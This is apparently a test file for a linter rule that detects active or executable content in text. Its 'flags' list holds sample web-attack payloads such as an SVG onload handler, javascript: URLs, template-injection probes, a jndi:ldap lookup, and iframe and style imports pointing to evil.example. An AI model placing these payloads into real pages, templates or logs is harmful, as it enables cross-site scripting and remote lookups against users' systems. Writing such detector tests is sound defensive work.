import rule from '#lib/rules/security/active-content.ts';
import { testRule } from '#tests/helpers/rule-tester.ts';

testRule(rule, {
  flags: [
    'See «<svg/onload=fetch(1)>».',
    'A link: <a href="«javascript:void(0)»">x</a>',
    'Open «data:text/html;base64,PHNjcmlwdD4=» to see it.',
    '«<iframe src="https://evil.example">»',
    'Write «{{constructor.constructor(1)()}}» there.',
    'Result: «{{7*7}}»',
    'Log «$\u007bjndi:ldap://x.example/a}» here.',
    '«<object data=movie.swf>» plays it.',
    '«<style>@import url(//evil.example/a.css)»',
    '«<body onload="go()">»',
    '«<meta http-equiv="refresh" content="0;url=//x.example">»',
    '«<form action="https://x.example">»',
    {
      text: 'Put this in the head:\n```\n«<script src="/w.js">»«</script>»\n```',
      severity: 'warn',
    },
    'Open «java script:alert(1)» there.',
    'Set «width: expression(alert(1))» there.',
  ],
  passes: [
    'Turn on = in the settings, then load the page.',
    'Add the <strong>date</strong> and <em>name</em>.',
    'Our data: text and images.',
    'Hello {{customer.name}}, welcome.',
    'Total: $\u007bamount}.',
    'The object is embedded in the frame.',
    'Use <a href="https://example.com">this link</a>.',
    'JavaScript: enable it in the browser.',
  ],
});
